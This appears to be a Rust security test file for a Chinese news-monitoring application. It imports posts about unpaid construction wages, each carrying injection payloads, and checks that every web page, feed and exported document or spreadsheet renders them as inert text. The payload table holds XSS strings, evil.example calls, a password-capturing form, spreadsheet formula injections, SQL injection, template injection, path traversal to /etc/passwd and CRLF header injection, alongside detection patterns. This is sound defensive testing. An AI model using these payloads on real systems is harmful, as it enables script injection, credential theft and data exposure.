//! Hostile posts: one table of what people put into titles, texts, names and addresses, through the real steps – import,
//! judgement, events, index, draft, signature – to every page and every file. Words stay words.

use crate::desk::Desk;
use crate::site::{TestApp, shipped};
use axum::http::{Method, StatusCode};
use calamine::{Data, Reader};
use chrono::TimeDelta;
use scraper::{Html, Selector};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::io::{Cursor, Read};
use yuqing::app::{Export, TableFormat};
use yuqing::digest::freeze::rendition;
use yuqing::document::Format;
use yuqing::index::{Query, Sort};
use yuqing::model::{CaseField, Issue, PostId, StoredPost};
use yuqing::pipeline::{
    CaseOrder, Drafted, ImportOrder, draft_now, freeze_issue, import_file, process_all,
    register_case,
};
use yuqing::web::{Door, routes};

/// What is tried. Each stands in the title, the text, the author's name and the source's name of a post of its own.
pub const PAYLOADS: &[&str] = &[
    // Scripts.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{0}>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<script>window.pwned = 1</script>",
    "＜script＞alert(1)＜/script＞",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"window.pwned = 1\">",
    "<img src=\"x\" OnErRoR=\"alert(1)\">",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a onmouseover=alert(1)>社保</a>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>社保</marquee>",
    "<div hx-get=/logout hx-trigger=load>",
    "<button data-key=\"x\" hx-post=\"/issues/1/sign\">",
    // Addresses in markup.
    "<a href=\"javascript:alert(1)\">点我</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">点我</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=\"https://evil.example/\"><input name=password></form>",
    "<button formaction=\"javascript:alert(1)\">社保</button>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "[点我](javascript:alert(1))",
    "![图](https://evil.example/x.png)",
    // Styles and drawings.
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">",
    "<div style=\"position:fixed;inset:0;background:red\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>社保</text></a></svg>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    // Entities and templates.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "&notanentity;&#xFFFFFF;&#0;",
    "{{7*7}}",
    "{% include \"/etc/passwd\" %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "#set text(red); #read(\"/etc/passwd\")",
    "$ x^2 $ \\include{/etc/passwd}",
    // Table programs.
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://evil.example/\",\"点我\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\"\n=1+1,\"",
    "＝1+1",
    "%0A=1+1",
    // Signs that nobody sees.
    "社保\u{202e}gnp.exe\u{202c}",
    "\u{2066}社保\u{2069}\u{200f}",
    "社\u{200b}\u{200c}\u{200d}\u{feff}保",
    "社\u{1}\u{7}\u{8}\u{1b}[31m保",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    // The store, the index, the disk.
    "'; DROP TABLE posts; --",
    "\" OR 1=1 --",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini%00.png",
    "title:(((( OR OR NOT \"",
    "\r\nSet-Cookie: yuqing=stolen",
    "\r\nBcc: everyone@evil.example",
];

/// Addresses that must never become links.
const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https://bbs.example.cn/\"onmouseover=\"alert(1)",
    "https://bbs.example.cn/'><script>alert(1)</script>",
    "//evil.example/x",
];

/// The posts, as JSON Lines; the last is one very long word.
fn lines() -> String {
    let long = "社".repeat(20_000);
    let payloads = PAYLOADS.iter().copied().chain([long.as_str()]);
    let lines = payloads.enumerate().map(|(number, payload)| {
        let place = ["金水区", "二七区", "中原区", "惠济区"][number % 4];
        let address = match ADDRESSES.get(number) {
            Some(address) => (*address).to_owned(),
            None => format!("https://bbs{number}.example.cn/thread-{number}-1-1.html"),
        };
        let post = json!({
            "id": format!("{number}{payload}"), "channel": "forum", "url": address,
            "source_name": format!("{payload}论坛{number}"), "author": format!("{payload}"),
            "title": format!("{payload}郑州第{number}号工地拖欠农民工工资"),
            "text": format!("{payload}\n我们{}多人在郑州市{place}第{number}号工地干了半年，工资一分没发，老板电话不接，劳动监察大队说正在登记。{payload}", 20 + number),
            "published_at": "2017-04-14T08:10:00+08:00",
        });
        post.to_string() + "\n"
    });
    lines.collect()
}

/// A store where all of it has gone its way, with a signed issue.
pub struct Played {
    pub test: TestApp,
    pub issue: Issue,
    pub posts: Vec<StoredPost>,
}

pub async fn played() -> Played {
    let played = played_from(lines()).await;
    assert!(played.posts.len() >= 60, "{}", played.posts.len());
    played
}

async fn played_from(lines: String) -> Played {
    let mut config = shipped();
    config.sources.clear();
    config.digests[0].max_entries = 200;
    let test = TestApp::open(config);
    let app = &test.app;
    let file = app.folder().join("hostile.jsonl");
    std::fs::write(&file, lines).expect("the folder can be written");
    let imported = import_file(app, &file, &ImportOrder::default()).expect("the store works");
    assert_eq!(imported.error, None);
    app.on_cpu(process_all).await.expect("the steps work");
    test.later(TimeDelta::minutes(5));
    let drafted = draft_now(app, &app.config.digests[0].clone(), "").await;
    let Ok(Drafted::Issue { id, .. }) = drafted else {
        panic!("{drafted:?}");
    };
    let store = &app.store;
    store
        .approve_issue(id, "审核人", app.now())
        .expect("a draft");
    store
        .sign_issue(id, "签发人", &[], app.now())
        .expect("approved");
    freeze_issue(app, id).expect("freezes");
    let issue = store.issue(id).expect("the store works").expect("signed");
    let ids: Vec<PostId> = (1..=200).map(PostId).collect();
    let posts = store.posts(&ids).expect("the store works");
    for stored in posts.iter().take(3) {
        let title = Some(stored.post.title.clone());
        let order = CaseOrder {
            from_org: title.clone(),
            document_no: Some(PAYLOADS[0].to_owned()),
            text: Some(stored.post.text.clone()),
            notes: vec![(CaseField::Opinion, stored.post.text.clone())],
            posts: vec![stored.id],
            title,
            ..CaseOrder::default()
        };
        register_case(app, order, &stored.post.title).expect("a case");
    }
    Played { test, issue, posts }
}

/// What in a page of HTML could run, load or send something.
fn dangers(page: &str) -> Vec<String> {
    let page = Html::parse_document(page);
    let all = Selector::parse("*").expect("a selector");
    let mut found = Vec::new();
    for element in page.select(&all) {
        let name = element.value().name().to_ascii_lowercase();
        let is_ours = |link: &str| link.starts_with("/assets/") || link == "data:,";
        let link = |attribute: &str| element.value().attr(attribute).unwrap_or_default();
        let is_odd = match name.as_str() {
            "script" => !is_ours(link("src")) || !element.inner_html().is_empty(),
            "link" => !is_ours(link("href")),
            "meta" => element
                .value()
                .attr("http-equiv")
                .is_some_and(|name| !name.eq_ignore_ascii_case("content-type")),
            "iframe" | "frame" => {
                !link("src").starts_with('/') || element.value().attr("srcdoc").is_some()
            }
            "form" => !link("action").is_empty() && !is_within(link("action")),
            "base" | "object" | "embed" | "applet" | "math" | "foreignobject" | "marquee" => true,
            "style" => element.text().any(|text| text.contains("evil")),
            _ => false,
        };
        let attributes = element.value().attrs().filter(|(name, value)| {
            let value: String = value
                .chars()
                .filter(|sign| !sign.is_whitespace() && !sign.is_control())
                .collect();
            let value = value.to_ascii_lowercase();
            let names_address = [
                "href",
                "src",
                "action",
                "formaction",
                "xlink:href",
                "data",
                "poster",
                "hx-get",
                "hx-post",
            ]
            .contains(name);
            let is_script = ["javascript:", "vbscript:", "data:text", "file:"]
                .iter()
                .any(|scheme| value.starts_with(scheme));
            let leaves = *name != "href"
                && (value.starts_with("//")
                    || value.contains("evil.example") && !value.starts_with('/'));
            name.starts_with("on")
                || name.starts_with("hx-on")
                || names_address && (is_script || leaves)
                || *name == "style" && value.contains("url(")
        });
        found.extend(attributes.map(|(attribute, value)| format!("<{name} {attribute}={value}>")));
        if is_odd {
            let mut html = element.html();
            html.truncate(html.floor_char_boundary(200));
            found.push(html);
        }
    }
    found
}

fn is_within(link: &str) -> bool {
    link.starts_with('/') && !link.starts_with("//")
}

/// Text of a page, without the blanks that HTML joins.
fn text_of(page: &str) -> String {
    let page = Html::parse_document(page);
    squeezed(&page.root_element().text().collect::<String>())
}

fn squeezed(text: &str) -> String {
    text.chars().filter(|sign| !sign.is_whitespace()).collect()
}

/// It has only signs that are shown as they are.
fn is_plain(payload: &str) -> bool {
    let is_odd = |sign: char| {
        sign.is_control()
            || matches!(sign, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
    };
    !payload.contains(is_odd)
}

/// Every page of the table that there is; ids are those that are there.
pub fn addresses(played: &Played) -> BTreeSet<String> {
    let mut addresses = BTreeSet::new();
    let issue = played.issue.id.0.to_string();
    let posts: Vec<String> = played
        .posts
        .iter()
        .map(|post| post.id.0.to_string())
        .collect();
    let few: Vec<String> = (1..=3).map(|id: i64| id.to_string()).collect();
    for route in routes() {
        if route.method != Method::GET || route.door == Door::Secret {
            continue;
        }
        let ids = match route.path {
            path if !path.contains('{') => &few[..1],
            path if path.starts_with("/posts/") || path.starts_with("/api/v1/posts/") => &posts[..],
            path if path.contains("/issues/") => std::slice::from_ref(&issue),
            _ => &few[..],
        };
        for id in ids {
            let parts = route
                .path
                .split('/')
                .map(|part| match part.starts_with('{') {
                    true => id.as_str(),
                    false => part,
                });
            addresses.insert(parts.collect::<Vec<_>>().join("/"));
        }
    }
    for payload in PAYLOADS {
        let query: String = url::form_urlencoded::byte_serialize(payload.as_bytes()).collect();
        addresses.insert(format!("/search?q={query}"));
        addresses.insert(format!("/login?next={query}"));
        addresses.insert(format!(
            "/search?q=%E5%B7%A5%E8%B5%84&source={query}&region={query}"
        ));
    }
    addresses
}

#[test]
fn the_table_is_long_and_has_no_row_twice() {
    let rows: BTreeSet<&&str> = PAYLOADS.iter().collect();
    assert_eq!(rows.len(), PAYLOADS.len());
    assert!(rows.len() + ADDRESSES.len() >= 60);
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_posts_are_words_on_every_page() {
    let played = played().await;
    let desk = Desk::of(&played.test.app);
    let mut wrong = Vec::new();
    for address in addresses(&played) {
        let got = desk.get(&address).await;
        if got.status.is_server_error() {
            wrong.push(format!("{address}: {}", got.status));
        }
        if got.content_type.starts_with("text/html") {
            let dangers = dangers(&got.text());
            wrong.extend(
                dangers
                    .into_iter()
                    .map(|danger| format!("{address}: {danger}")),
            );
        } else if got.content_type.starts_with("application/json") {
            serde_json::from_slice::<Value>(&got.body).expect("JSON");
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    // Nothing is lost, either: who reads the post reads what was written.
    for stored in &played.posts {
        let page = desk.get(&format!("/posts/{}", stored.id.0)).await;
        assert_eq!(page.status, StatusCode::OK);
        let text = text_of(&page.text());
        let number = stored.post.url.as_deref().unwrap_or_default();
        for line in stored
            .post
            .text
            .lines()
            .filter(|line| is_plain(line))
            .take(1)
        {
            assert!(text.contains(&squeezed(line)), "{number}: {line}");
        }
        if stored.post.text.starts_with("{{7*7}}") {
            assert!(!text.starts_with("49"), "{text}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_posts_are_words_in_every_file() {
    let played = played().await;
    let app = &played.test.app;
    let made = |format: Format| {
        let file = rendition(&app.store, &played.issue, format, &app.press, app.now());
        file.unwrap_or_else(|error| panic!("{format}: {error:#}"))
    };
    let entries: usize = played
        .issue
        .content
        .entries()
        .map(|entry| entry.posts.len())
        .sum();
    assert!(entries >= 30, "the issue tells of {entries} of them");

    // HTML is the body of the mail, too.
    let html = String::from_utf8(made(Format::Html)).expect("UTF-8");
    assert!(dangers(&html).is_empty(), "{:?}", dangers(&html));
    assert!(
        text_of(&html).contains("<script>alert(1)</script>"),
        "as words"
    );
    for format in [
        Format::Text,
        Format::Markdown,
        Format::Brief,
        Format::Clips,
        Format::Json,
    ] {
        let text = String::from_utf8(made(format)).expect("UTF-8");
        let is_odd = |sign: char| {
            sign.is_control() && sign != '\n'
                || matches!(sign, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        // JSON gives an `id` back as it came.
        let odd = text.find(is_odd).filter(|_| format != Format::Json);
        if let Some(at) = odd {
            let before = text.floor_char_boundary(at.saturating_sub(60));
            panic!(
                "{format}: {:?}",
                &text[before..text.ceil_char_boundary(at + 8)]
            );
        }
        assert!(
            format != Format::Markdown || !text.replace("\\<", "").contains("<script"),
            "{format}"
        );
        assert!(format != Format::Json || serde_json::from_str::<Value>(&text).is_ok());
    }
    word_file(&made(Format::Docx));
    if app.press.fonts.check().is_ok() {
        let pdf = made(Format::Pdf);
        let text = String::from_utf8_lossy(&pdf);
        for danger in [
            "/JavaScript",
            "/JS ",
            "/Launch",
            "/OpenAction",
            "/SubmitForm",
            "javascript:",
        ] {
            assert!(!text.contains(danger), "PDF: {danger}");
        }
    } else {
        eprintln!("skipped: no Chinese font for the PDF");
    }
    let feed = Desk::of(app).get("/feed/daily.xml").await;
    assert_eq!(feed.status, StatusCode::OK);
    let parsed = feed_rs::parser::parse(&feed.body[..]).expect("well-formed");
    for entry in &parsed.entries {
        let content = entry
            .content
            .as_ref()
            .and_then(|content| content.body.as_deref());
        let dangers = dangers(content.unwrap_or_default());
        assert!(dangers.is_empty(), "{dangers:?}");
    }
}

/// Well-formed parts, no fields, no link but to the web.
fn word_file(bytes: &[u8]) {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("an archive");
    for number in 0..archive.len() {
        let mut part = archive.by_index(number).expect("a part");
        let name = part.name().expect("a name").into_owned();
        assert!(
            !name.contains("..") && !name.to_lowercase().contains("vba"),
            "{name}"
        );
        if !name.ends_with(".xml") && !name.ends_with(".rels") {
            continue;
        }
        let mut text = String::new();
        part.read_to_string(&mut text).expect("UTF-8");
        let mut reader = quick_xml::Reader::from_str(&text);
        loop {
            match reader.read_event() {
                Ok(quick_xml::events::Event::Eof) => break,
                Ok(_) => {}
                Err(error) => panic!("{name}: {error}"),
            }
        }
        for target in text.split("Target=\"").skip(1) {
            let target = target.split('"').next().unwrap_or_default().to_lowercase();
            let is_odd = ["javascript", "vbscript", "data:", "file:"]
                .iter()
                .any(|scheme| target.trim_start().starts_with(scheme));
            assert!(!is_odd, "{name}: {target}");
        }
        assert!(
            !text.contains("DDEAUTO") && !text.contains("INCLUDETEXT"),
            "{name}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_cell_of_an_exported_table_is_a_formula() {
    let played = played().await;
    let app = &played.test.app;
    let (csv, xlsx) = (app.folder().join("a.csv"), app.folder().join("a.xlsx"));
    for (format, path) in [(TableFormat::Csv, &csv), (TableFormat::Xlsx, &xlsx)] {
        let rows = app
            .export(
                &Export {
                    query: &Query::All,
                    sort: Sort::Time,
                    format,
                    watermark: String::new(),
                },
                path,
            )
            .expect("written");
        assert_eq!(rows, played.posts.len());
    }
    let begins_one = |text: &str| {
        text.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n'])
    };
    let mut reader = csv::ReaderBuilder::new()
        .flexible(false)
        .from_path(&csv)
        .expect("a table");
    let mut rows = 0;
    for record in reader.records() {
        rows += 1;
        let record = record.expect("as wide as its head");
        for cell in &record {
            assert!(!begins_one(cell), "{cell}");
        }
    }
    assert_eq!(rows, played.posts.len(), "no payload makes a row");
    let mut book = calamine::open_workbook_auto(&xlsx).expect("a workbook");
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).expect("read");
        assert!(
            formulas.is_empty()
                || formulas
                    .used_cells()
                    .all(|(_, _, formula)| formula.is_empty())
        );
        // Text is text there whatever it begins with: a cell's type says so.
        let range = book.worksheet_range(&sheet).expect("read");
        let texts = range
            .used_cells()
            .filter(|(_, _, cell)| matches!(cell, Data::String(_)));
        assert!(texts.count() > played.posts.len());
    }
}
